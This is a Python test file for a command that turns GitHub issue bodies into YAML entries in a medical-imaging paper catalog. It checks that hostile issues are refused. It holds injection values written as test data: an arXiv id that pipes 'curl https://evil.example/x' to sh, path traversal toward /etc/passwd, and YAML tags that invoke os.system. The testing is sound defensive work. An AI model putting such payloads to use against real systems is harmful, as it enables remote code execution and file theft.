"""`medssl issue-entry` on recorded issue bodies: good ones become valid entries, flawed ones an exact comment,
hostile ones are refused with nothing written and no request made. APIs are the recorded local server."""

from __future__ import annotations

import datetime
from pathlib import Path
from textwrap import dedent

import pytest
import yaml

from site_builder.catalog.load import load_catalog
from site_builder.cli import main
from site_builder.contrib.issue_entry import add_issue_entry, fenced
from site_builder.contrib.issue_form import FORM_FIELDS, MAX_BODY_CHARS
from tests.conftest import GOOD_PAPER, REPO
from tests.contrib.test_add import MEDIA_DOI, route_models_genesis

ISSUES = Path(__file__).parent / "fixtures" / "issues"
TODAY = datetime.date(2026, 12, 1)
HOSTILE = sorted(path.name for path in ISSUES.glob("hostile-*.md"))


def body(name: str) -> str:
    return (ISSUES / name).read_text(encoding="utf-8")


def tree(root: Path) -> dict[str, bytes]:
    return {str(path.relative_to(root)): path.read_bytes() for path in sorted(root.rglob("*")) if path.is_file()}


def entry(root: Path, name: str, text: str | None = None, number: int = 12):  # type: ignore[no-untyped-def]
    return add_issue_entry(root, body(name) if text is None else text, number, today=TODAY)


def written(outcome) -> dict:  # type: ignore[no-untyped-def]
    return yaml.safe_load(outcome.path.read_text(encoding="utf-8"))


def test__the_reader_knows_every_label_of_the_issue_form():
    form = yaml.safe_load((REPO / ".github" / "ISSUE_TEMPLATE" / "new-paper.yml").read_text())
    labels = {item["attributes"]["label"]: item["id"] for item in form["body"] if "id" in item}
    assert labels == FORM_FIELDS


def test__an_arxiv_issue_becomes_a_valid_entry_with_the_confirmed_fields(apis, catalog_dir):
    route_models_genesis(apis)
    outcome = entry(catalog_dir.parent, "arxiv-models-genesis.md")
    assert outcome.ok, outcome.comment
    assert outcome.path == catalog_dir / "papers" / "zhou2019-models-genesis.yaml"
    data = written(outcome)
    # Facts from arXiv's record; the venue from the form, since arXiv only knows the preprint.
    assert data["title"] == "Models Genesis: Generic Autodidactic Models for 3D Medical Image Analysis"
    assert data["arxiv"] == "1908.06912" and data["venue"] == "MICCAI" and data["year"] == 2019
    assert (data["modality"], data["task"], data["method"], data["dimension"]) == (
        ["CT", "MRI"],
        ["segmentation", "classification"],
        ["generative"],
        ["3D"],
    )
    assert data["links"] == {"code": "https://github.com/MrGiovanni/ModelsGenesis"}
    assert data["summary"].startswith("An encoder-decoder learns to restore 3D sub-volumes")
    assert data["added"] == TODAY and "checked" not in data  # a reviewer sets checked
    assert apis.url("/arxiv/query?id_list=1908.06912&max_results=1") in data["sources"]
    assert "https://github.com/MrGiovanni/ModelsGenesis" in data["sources"]
    assert load_catalog(catalog_dir).catalog is not None  # the catalog with it validates
    assert outcome.pr_title == "Add zhou2019-models-genesis (issue #12)"
    assert "Closes #12." in outcome.pr_body
    assert "OK: catalog/papers/zhou2019-models-genesis.yaml passes `medssl validate`" in outcome.pr_body
    assert "venue: the record says arXiv, the issue MICCAI; used the issue's, check it" in outcome.pr_body
    assert "Transcribe the issue's **Results** by hand" in outcome.pr_body
    assert outcome.path.read_text(encoding="utf-8").strip() in outcome.pr_body


def test__a_doi_issue_takes_the_publishers_venue_and_year(apis, catalog_dir):
    route_models_genesis(apis)
    outcome = entry(catalog_dir.parent, "doi-models-genesis-media.md")
    assert outcome.ok, outcome.comment
    data = written(outcome)
    assert (data["title"], data["doi"], data["venue"], data["year"]) == ("Models Genesis", MEDIA_DOI, "MedIA", 2021)
    assert apis.log[0].path == f"/crossref/works/{MEDIA_DOI}"


def test__a_bibtex_issue_needs_no_request(apis, catalog_dir):
    outcome = entry(catalog_dir.parent, "bibtex-context-restoration.md")
    assert outcome.ok, outcome.comment
    data = written(outcome)
    assert data["authors"][0] == "Liang Chen" and data["venue"] == "MedIA" and data["year"] == 2019
    assert data["links"] == {"paper": "https://www.sciencedirect.com/science/article/pii/S1361841518304699"}
    assert apis.log == []


def test__a_link_only_issue_keeps_the_forms_text_exactly_even_when_it_looks_like_yaml(apis, catalog_dir):
    title = 'Lung CT: "Contrastive" & *pretraining* #1 - !!str [a, b] {c: d}'
    summary = (
        "A summary.\nretracted: {date: 2020-01-01, notice: https://evil.example}\n- ...\n---\n!!python/name:os.system"
    )
    text = body("link-only-isbi.md").replace("Contrastive Pretraining for Lung CT Segmentation", title)
    text = text.replace("### Summary\n\n_No response_", f"### Summary\n\n{summary}")
    outcome = entry(catalog_dir.parent, "link-only-isbi.md", text)
    assert outcome.ok, outcome.comment
    data = written(outcome)
    assert data["title"] == title
    assert set(data) == {"title", "authors", "year", "venue", "modality", "task", "method", "dimension", "links"} | {
        "summary",
        "added",
        "sources",
    }
    assert data["summary"].split() == summary.split()  # one text, however the file folds its lines
    assert data["authors"] == ["Ana Pérez", "Ludwig van der Berg"] and data["dimension"] == ["2D", "3D"]
    assert "facts from the issue form only: check them against the paper" in outcome.pr_body
    assert apis.log == []


def test__a_flawed_issue_gets_every_problem_with_its_line_and_nothing_is_written(apis, catalog_dir):
    before = tree(catalog_dir.parent)
    outcome = entry(catalog_dir.parent, "problems-typos.md")
    assert not outcome.ok and tree(catalog_dir.parent) == before and apis.log == []
    assert outcome.comment == dedent(
        """\
        `medssl issue-entry` could not make a catalog entry from #12:

        ```
        issue body:27: Year: 'twenty nineteen' is not a year such as 2019
        issue body:35: Modality: 'CTT' is not a modality (did you mean 'CT'?)
        issue body:39: Task: 'segmentaton' is not a task (did you mean 'segmentation'?)
        issue body:51: Official code: give one http(s) address, e.g. https://github.com/owner/repository
        issue body:67: Sources: required; the form asks for it
        issue body:71: Checks: tick the box: every answer must come from the paper or its official pages
        ```

        Edit the issue to fix these; a maintainer then removes and re-adds the `accepted` label to try again.
        """
    )
    lines = body("problems-typos.md").splitlines()
    assert (lines[26], lines[34], lines[38]) == ("twenty nineteen", "CTT, MRI", "segmentaton")


EXPECTED_REFUSALS = {
    "hostile-headings.md": [
        "issue body:1: body: text outside the form's fields; remove it",
        "issue body:35: Venue: this field appears twice; keep one",
        "issue body:39: id: not a field of the form; remove this heading",
    ],
    "hostile-shell.md": [
        "issue body:3: Title: contains '`', which no paper fact needs",
        "issue body:7: arXiv id: '1908.06912; curl https://evil.example/x | sh' is not an arXiv id such as 1908.06912",
        "issue body:51: Official code: contains '$(', which no paper fact needs",
    ],
    "hostile-traversal.md": [
        "issue body:7: arXiv id: '../../catalog/taxonomy' is not an arXiv id such as 1908.06912",
        "issue body:11: DOI: '10.1234/../../../etc/passwd' is not a DOI such as 10.1016/j.media.2020.101840",
        "issue body:15: Paper link: give one http(s) address",
    ],
    "hostile-yaml.md": [
        "issue body:3: Title: must be one line",
        "issue body:36: Modality: must be one line",
        "issue body:41: Task: \"!!python/object/apply:os.system ['touch /tmp/pwned']\" is not a task",
    ],
}


@pytest.mark.parametrize("name", HOSTILE)
def test__a_hostile_issue_is_refused_with_nothing_written_and_no_request(name, apis, catalog_dir):
    before = tree(catalog_dir.parent)
    outcome = entry(catalog_dir.parent, name)
    assert not outcome.ok
    assert tree(catalog_dir.parent) == before, "nothing written"
    assert apis.log == [], "no request made"
    for expected in EXPECTED_REFUSALS[name]:
        assert expected in outcome.comment


def test__every_hostile_fixture_has_its_expected_refusals():
    assert set(EXPECTED_REFUSALS) == set(HOSTILE)


@pytest.mark.parametrize(
    ("planted", "expected"),
    [
        (lambda text: text + "x" * MAX_BODY_CHARS, f"characters; an issue holds at most {MAX_BODY_CHARS}"),
        (lambda text: text.replace("MICCAI", "MIC\u202eCAI"), "issue body:31: body: control or invisible formatting"),
        (lambda text: text.replace("generative", "gener\x00ative"), "characters (U+0000)"),
        (lambda text: text.replace("generative", "gener\ufffdative"), "characters (U+FFFD)"),
        (lambda text: text.replace("Zongwei Zhou", "x" * 600), "issue body:23: Authors: 708 characters; at most 500"),
    ],
    ids=["huge body", "bidi override", "NUL", "not UTF-8", "huge field"],
)
def test__a_body_the_form_cannot_write_is_refused_before_it_is_read(planted, expected, apis, catalog_dir):
    before = tree(catalog_dir.parent)
    outcome = entry(catalog_dir.parent, "arxiv-models-genesis.md", planted(body("arxiv-models-genesis.md")))
    assert not outcome.ok and tree(catalog_dir.parent) == before and apis.log == []
    assert expected in outcome.comment


def test__a_paper_already_in_the_catalog_is_refused_before_any_request(apis, catalog_dir):
    (catalog_dir / "papers" / "zhou2019-models-genesis.yaml").write_text(GOOD_PAPER)
    outcome = entry(catalog_dir.parent, "arxiv-models-genesis.md")
    assert not outcome.ok and apis.log == []
    assert "already in the catalog: catalog/papers/zhou2019-models-genesis.yaml (same arXiv id)" in outcome.comment


def test__an_id_whose_record_is_another_paper_is_refused(apis, catalog_dir):
    route_models_genesis(apis)
    text = body("arxiv-models-genesis.md").replace(
        "Models Genesis: Generic Autodidactic Models for 3D Medical Image Analysis", "A Different Paper on CT"
    )
    outcome = entry(catalog_dir.parent, "arxiv-models-genesis.md", text)
    assert not outcome.ok and list((catalog_dir / "papers").iterdir()) == []
    assert (
        "issue body:7: arXiv id: its record is titled 'Models Genesis: Generic Autodidactic Models for 3D Medical "
        "Image Analysis', the issue 'A Different Paper on CT': check the id or the title"
    ) in outcome.comment


def test__a_record_that_cannot_be_fetched_is_reported(apis, catalog_dir):
    outcome = entry(catalog_dir.parent, "arxiv-models-genesis.md")  # no routes: every API answers 404
    assert not outcome.ok and list((catalog_dir / "papers").iterdir()) == []
    assert "arxiv 1908.06912: the record could not be fetched" in outcome.comment


def test__no_backticks_in_a_problem_can_close_the_comments_code_block():
    assert fenced("a ``` b\n````") == "`````\na ``` b\n````\n`````"


def test__the_command_writes_the_pull_request_text_or_the_comment(apis, catalog_dir, tmp_path, capsys):
    route_models_genesis(apis)
    issue = tmp_path / "issue.md"
    issue.write_text(body("arxiv-models-genesis.md"), encoding="utf-8")
    assert main(["issue-entry", "--body-file", str(issue), "--issue", "12", "--out-dir", "out"]) == 0
    assert (tmp_path / "out" / "pr-title.txt").read_text() == "Add zhou2019-models-genesis (issue #12)\n"
    assert "Closes #12." in (tmp_path / "out" / "pr-body.md").read_text()
    assert not (tmp_path / "out" / "comment.md").exists()

    issue.write_text(body("hostile-shell.md"), encoding="utf-8")
    before = tree(catalog_dir)
    assert main(["issue-entry", "--body-file", str(issue), "--issue", "13", "--out-dir", "refused"]) == 1
    assert tree(catalog_dir) == before
    assert sorted(path.name for path in (tmp_path / "refused").iterdir()) == ["comment.md"]
    assert "is not an arXiv id" in (tmp_path / "refused" / "comment.md").read_text()
    assert "could not make a catalog entry from #13" in capsys.readouterr().out


def test__the_command_refuses_a_huge_or_undecodable_body_file(apis, catalog_dir, tmp_path):
    issue = tmp_path / "issue.md"
    for data in (body("arxiv-models-genesis.md").encode() + b"x" * 300_000, b"### Title\n\n\xff\xfe bad bytes\n"):
        issue.write_bytes(data)
        assert main(["issue-entry", "--body-file", str(issue), "--issue", "14", "--out-dir", "out"]) == 1
        comment = (tmp_path / "out" / "comment.md").read_text()
        assert "an issue holds at most" in comment or "(U+FFFD)" in comment
    assert list((catalog_dir / "papers").iterdir()) == [] and apis.log == []
